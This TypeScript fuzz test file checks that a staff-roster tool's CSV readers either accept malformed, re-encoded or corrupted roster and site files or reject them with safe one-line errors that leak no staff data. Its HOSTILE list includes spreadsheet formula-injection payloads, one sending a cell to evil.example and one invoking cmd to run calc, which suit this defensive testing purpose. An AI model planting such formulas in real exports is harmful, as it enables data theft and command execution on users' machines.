/**
 * Hostile-input properties over rosters and sites (issue 10): generated files — malformed CSV,
 * other encodings, corrupt bytes, control characters, formulas, huge fields, headers that do not
 * match their rows — go through the real readers. Each must load correctly or fail with an
 * `InputError` whose message is one line, names the file and line, quotes at most 40 characters
 * and never holds a generated name or employee id; never any other error.
 *
 * Runs per property: `TESTROTA_FUZZ_RUNS` (default 200, so `npm test` stays fast); fixed seed.
 * The count of inputs tried is printed as `[reliability] inputs-fuzz: …` and, when
 * `TESTROTA_FUZZ_REPORT` names a file, appended to it as a JSON line (`npm run reliability`).
 */
import { appendFileSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import iconv from "iconv-lite";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Site } from "../../src/domain/roster.ts";
import { InputError } from "../../src/errors.ts";
import { checkFieldText } from "../../src/roster/field-text.ts";
import { createCollectingSink, formatProblem } from "../../src/roster/input-problems.ts";
import { readRoster } from "../../src/roster/read-roster.ts";
import { readSites } from "../../src/roster/read-sites.ts";
import { SAMPLE_MUNICIPALITIES } from "../fixtures/roster/municipalities.ts";

const RUNS = Number(process.env["TESTROTA_FUZZ_RUNS"] ?? 200);
const SEED = 20_201_007;
/** A run takes a few milliseconds; large TESTROTA_FUZZ_RUNS get the time they need. */
const TIMEOUT_MS = 30_000 + RUNS * 100;
const KOEBENHAVN = SAMPLE_MUNICIPALITIES.filter((m) => m.code === 101);
const SITES: Site[] = [
  { id: "S0101-NH01", municipalityCode: 101, kind: "nursing-home", name: "Plejecenter A", address: "Vej 1" },
  { id: "S0101-HC01", municipalityCode: 101, kind: "home-care", name: "Hjemmeplejen B", address: "Vej 2" },
  { id: "S0147-NH01", municipalityCode: 147, kind: "nursing-home", name: "Plejehjem C", address: "Vej 3" },
];

/** Name parts that occur in no message: a message holding one has leaked a name. */
const NAME_TOKENS = ["Søren", "Qvistgaard", "Ærenlund", "Zakarias", "Wendelboe", "Åkjærsen", "Øbergsen"];
/** Every generated employee id starts with this. */
const ID_PREFIX = "EMPX";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\u0000",
  "\u001b[31m",
  "\u0085",
  "\u2028",
  "\u202E",
  "\uFFFD",
  "\u200B",
  '"',
  ";",
  "\n",
  "\r\n",
];

const hostile = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
  { weight: 1, arbitrary: fc.integer({ min: 41, max: 100_000 }).map((length) => "Æ".repeat(length)) },
);
const maybeHostile = (value: fc.Arbitrary<string>) =>
  fc
    .tuple(value, fc.option(hostile, { freq: 4 }), fc.boolean())
    .map(([clean, bad, before]) => (bad === null ? clean : before ? bad + clean : clean + bad));

const cleanName = fc
  .tuple(fc.constantFrom(...NAME_TOKENS), fc.constantFrom(...NAME_TOKENS))
  .map(([first, last]) => `${first} ${last}`);
const employeeId = fc.nat({ max: 999_999 }).map((n) => `${ID_PREFIX}${String(n).padStart(6, "0")}`);
const siteId = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...SITES.map((site) => site.id)) },
  { weight: 1, arbitrary: fc.constantFrom("s0101-nh01", "S9999-XX01", "") },
);
const shift = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom("day", "evening", "night") },
  { weight: 1, arbitrary: fc.constantFrom("Day", "morning", "") },
);
const date = fc.oneof(
  fc.constant(""),
  fc.constantFrom("2020-09-01", "01-09-2020", "1.9.2020", "2020-02-30", "31/12/2020", "20-09-01"),
);

const ROSTER_COLUMNS = ["employee_id", "name", "site_id", "shift", "start_date", "end_date"] as const;

const rosterRecord = (hostileValues: boolean) =>
  fc.record({
    employee_id: hostileValues ? maybeHostile(employeeId) : employeeId,
    name: hostileValues ? maybeHostile(cleanName) : cleanName,
    site_id: hostileValues ? maybeHostile(siteId) : siteId,
    shift: hostileValues ? maybeHostile(shift) : shift,
    start_date: date,
    end_date: date,
  });

type Layout = "as-header" | "shuffled" | "rows-mismatch-header" | "missing-column" | "no-header";
type Encoding = "utf-8" | "utf-8-bom" | "windows-1252" | "utf-16le-bom" | "utf-16le";
type Damage = { kind: "none" } | { kind: "bytes"; at: number; bytes: number[] } | { kind: "cut"; at: number };

type FileSpec<Record> = {
  records: Record[];
  layout: Layout;
  order: number[];
  quoting: "csv" | "raw";
  encoding: Encoding;
  damage: Damage;
};

function fileSpec<Record>(record: fc.Arbitrary<Record>, columns: number, hostileFile: boolean) {
  const layout: fc.Arbitrary<Layout> = hostileFile
    ? fc.constantFrom("as-header", "shuffled", "rows-mismatch-header", "missing-column", "no-header")
    : fc.constantFrom("as-header", "shuffled");
  const encoding: fc.Arbitrary<Encoding> = hostileFile
    ? fc.constantFrom("utf-8", "utf-8-bom", "windows-1252", "utf-16le-bom", "utf-16le")
    : fc.constantFrom("utf-8", "utf-8-bom", "utf-16le-bom");
  const damage: fc.Arbitrary<Damage> = hostileFile
    ? fc.oneof(
        { weight: 3, arbitrary: fc.constant({ kind: "none" as const }) },
        {
          weight: 1,
          arbitrary: fc.record({
            kind: fc.constant("bytes" as const),
            at: fc.nat(),
            bytes: fc.array(fc.nat({ max: 255 }), { minLength: 1, maxLength: 4 }),
          }),
        },
        { weight: 1, arbitrary: fc.record({ kind: fc.constant("cut" as const), at: fc.nat() }) },
      )
    : fc.constant({ kind: "none" as const });
  return fc.record({
    records: fc.array(record, { minLength: 0, maxLength: 6 }),
    layout,
    order: fc.shuffledSubarray([...Array(columns).keys()], { minLength: columns, maxLength: columns }),
    quoting: hostileFile ? fc.constantFrom("csv" as const, "raw" as const) : fc.constant("csv" as const),
    encoding,
    damage,
  });
}

/** Renders the spec's header and rows as CSV text, laid out (and possibly mislaid) as asked. */
function renderText(columns: readonly string[], spec: FileSpec<Record<string, string>>): string {
  const headerOrder = spec.layout === "as-header" ? [...columns.keys()] : spec.order;
  const rowOrder = spec.layout === "shuffled" ? spec.order : [...columns.keys()];
  let header = headerOrder.map((index) => columns[index] ?? "");
  if (spec.layout === "missing-column") header = header.slice(1);
  const rows = spec.records.map((record) => rowOrder.map((index) => record[columns[index] ?? ""] ?? ""));
  const lines = spec.layout === "no-header" ? rows : [header, ...rows];
  if (spec.quoting === "csv") return stringify(lines, { delimiter: ";", record_delimiter: "\r\n" });
  return lines.map((line) => line.join(";")).join("\n");
}

function encode(text: string, encoding: Encoding): Buffer {
  switch (encoding) {
    case "utf-8":
      return Buffer.from(text, "utf8");
    case "utf-8-bom":
      return Buffer.from(`\uFEFF${text}`, "utf8");
    case "windows-1252":
      return iconv.encode(text, "windows-1252");
    case "utf-16le-bom":
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    case "utf-16le":
      return Buffer.from(text, "utf16le");
  }
}

function damage(bytes: Buffer, how: Damage): Buffer {
  if (how.kind === "none" || bytes.length === 0) return bytes;
  const at = how.at % bytes.length;
  if (how.kind === "cut") return bytes.subarray(0, at);
  return Buffer.concat([bytes.subarray(0, at), Buffer.from(how.bytes), bytes.subarray(at)]);
}

function fileBytes(columns: readonly string[], spec: FileSpec<Record<string, string>>): Buffer {
  return damage(encode(renderText(columns, spec), spec.encoding), spec.damage);
}

/** The text between the double quotes of a message, unescaped (`\u0000` counts as one). */
function quotedParts(message: string): string[] {
  return [...message.matchAll(/"((?:[^"\\]|\\.)*)"/g)].map((match) =>
    (match[1] ?? "").replace(/\\u[0-9A-F]{4}/g, "?").replace(/\\(.)/g, "$1"),
  );
}

/** The privacy and form rules every message about a generated file must keep. */
function expectSafeMessage(message: string, file: string, secrets: readonly string[]): void {
  expect(message).not.toMatch(/[\n\r\u2028\u2029]/);
  expect(message).toContain(file);
  for (const secret of secrets) expect(message).not.toContain(secret);
  for (const part of quotedParts(message)) expect([...part].length).toBeLessThanOrEqual(40);
  expect(message.length).toBeLessThan(600);
}

/** Everything that counts as staff data in a generated roster. */
const ROSTER_SECRETS = [...NAME_TOKENS, ID_PREFIX];

let dir: string;
/** Generated files that went through a reader, over every property. */
let inputsTried = 0;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "inputs-fuzz-"));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
  const line = `[reliability] inputs-fuzz: ${inputsTried} hostile inputs tried (seed ${SEED}, ${RUNS} runs per property)`;
  console.log(line);
  const report = process.env["TESTROTA_FUZZ_REPORT"];
  if (report !== undefined && report !== "") {
    const entry = { suite: "inputs-fuzz", inputs: inputsTried, seed: SEED, runsPerProperty: RUNS };
    appendFileSync(report, `${JSON.stringify(entry)}\n`);
  }
});

async function rejection(promise: Promise<unknown>): Promise<unknown> {
  return promise.then(
    () => undefined,
    (error: unknown) => error ?? new Error("rejected without an error"),
  );
}

describe("hostile rosters through readRoster", () => {
  const path = () => join(dir, "101.csv");
  const read = () => readRoster({ dir, pattern: "{code}.csv", municipalities: KOEBENHAVN, sites: SITES });

  it(
    "load correctly or fail with a one-line InputError naming file and line, without staff data",
    async () => {
      await fc.assert(
        fc.asyncProperty(fileSpec(rosterRecord(true), ROSTER_COLUMNS.length, true), async (spec) => {
          inputsTried += 1;
          await writeFile(path(), fileBytes(ROSTER_COLUMNS, spec));
          const error = await rejection(read());
          if (error === undefined) {
            const roster = await read();
            for (const member of roster.staff) {
              for (const value of [member.employeeId, member.siteId, member.name ?? ""]) {
                expect(checkFieldText(value, { maxLength: 200 })).toBeUndefined();
              }
              expect(SITES.some((site) => site.id === member.siteId && site.municipalityCode === 101)).toBe(
                true,
              );
            }
            return;
          }
          expect(error).toBeInstanceOf(InputError);
          const { message, location } = error as InputError;
          expect(location.file).toBe(path());
          expect(location.line).toBeGreaterThanOrEqual(1);
          expect(message).toMatch(/: line \d+: /);
          expectSafeMessage(message, path(), ROSTER_SECRETS);
        }),
        { seed: SEED, numRuns: RUNS },
      );
    },
    TIMEOUT_MS,
  );

  it(
    "collect every problem safely in validate's mode, at most the cap per file",
    async () => {
      await fc.assert(
        fc.asyncProperty(fileSpec(rosterRecord(true), ROSTER_COLUMNS.length, true), async (spec) => {
          inputsTried += 1;
          await writeFile(path(), fileBytes(ROSTER_COLUMNS, spec));
          const sink = createCollectingSink(5);
          await readRoster({ dir, pattern: "{code}.csv", municipalities: KOEBENHAVN, sites: SITES }, sink);
          const problems = sink.problems();
          expect(problems.length).toBeLessThanOrEqual(6);
          for (const problem of problems) {
            expect(problem.file).toBe(path());
            expectSafeMessage(formatProblem(problem), path(), ROSTER_SECRETS);
          }
        }),
        { seed: SEED + 1, numRuns: RUNS },
      );
    },
    TIMEOUT_MS,
  );

  it(
    "read every well-formed roster exactly, in any column order and accepted encoding",
    async () => {
      await fc.assert(
        fc.asyncProperty(
          fileSpec(
            fc.record({
              employee_id: employeeId,
              name: fc.oneof(cleanName, fc.constantFrom(...HOSTILE.slice(0, 4))),
              site_id: fc.constantFrom("S0101-NH01", "S0101-HC01"),
              shift: fc.constantFrom("day", "evening", "night"),
              start_date: fc.constantFrom("", "2020-09-01", "01-09-2020"),
              end_date: fc.constantFrom("", "2020-12-31", "31.12.2020"),
            }),
            ROSTER_COLUMNS.length,
            false,
          ).filter((spec) => spec.records.length > 0),
          async (spec) => {
            // Unique ids per file, as the roster requires.
            const records = spec.records.map((record, index) => ({
              ...record,
              employee_id: `${record.employee_id}-${index}`,
            }));
            inputsTried += 1;
            await writeFile(path(), fileBytes(ROSTER_COLUMNS, { ...spec, records }));
            const roster = await read();
            const iso = (text: string) =>
              text === ""
                ? undefined
                : text.includes("-2020") || text.includes(".2020")
                  ? text.split(/[-.]/).reverse().join("-")
                  : text;
            expect(roster.staff).toEqual(
              records.map((record) => ({
                municipalityCode: 101,
                employeeId: record.employee_id,
                name: record.name,
                siteId: record.site_id,
                shift: record.shift,
                startDate: iso(record.start_date),
                endDate: iso(record.end_date),
              })),
            );
          },
        ),
        { seed: SEED + 2, numRuns: RUNS },
      );
    },
    TIMEOUT_MS,
  );
});

const SITE_COLUMNS = ["site_id", "municipality_code", "kind", "name", "address"] as const;
/** Site names and addresses are never quoted in a message. */
const SITE_TOKENS = ["Qvistgaard", "Wendelboe", "Ærenlund"];

describe("hostile sites files through readSites", () => {
  const siteRecord = fc.record({
    site_id: maybeHostile(fc.nat({ max: 99 }).map((n) => `S${n}`)),
    municipality_code: maybeHostile(fc.constantFrom("101", "147", "411", "0101", "x")),
    kind: maybeHostile(fc.constantFrom("nursing-home", "home-care", "hospital")),
    name: maybeHostile(fc.constantFrom(...SITE_TOKENS).map((token) => `Plejecenter ${token}`)),
    address: maybeHostile(fc.constantFrom(...SITE_TOKENS).map((token) => `${token}vej 1`)),
  });

  it(
    "load correctly or fail with a one-line InputError naming file and line, quoting ≤ 40 characters",
    async () => {
      const path = join(dir, "sites.csv");
      await fc.assert(
        fc.asyncProperty(fileSpec(siteRecord, SITE_COLUMNS.length, true), async (spec) => {
          inputsTried += 1;
          await writeFile(path, fileBytes(SITE_COLUMNS, spec));
          const error = await rejection(readSites(path, SAMPLE_MUNICIPALITIES));
          if (error === undefined) {
            const sites = await readSites(path, SAMPLE_MUNICIPALITIES);
            for (const site of sites) {
              for (const value of [site.id, site.name, site.address]) {
                expect(checkFieldText(value, { maxLength: 200 })).toBeUndefined();
              }
            }
            return;
          }
          expect(error).toBeInstanceOf(InputError);
          const { message, location } = error as InputError;
          expect(location.file).toBe(path);
          expect(location.line).toBeGreaterThanOrEqual(1);
          expectSafeMessage(message, path, SITE_TOKENS);
        }),
        { seed: SEED + 3, numRuns: RUNS },
      );
    },
    TIMEOUT_MS,
  );
});
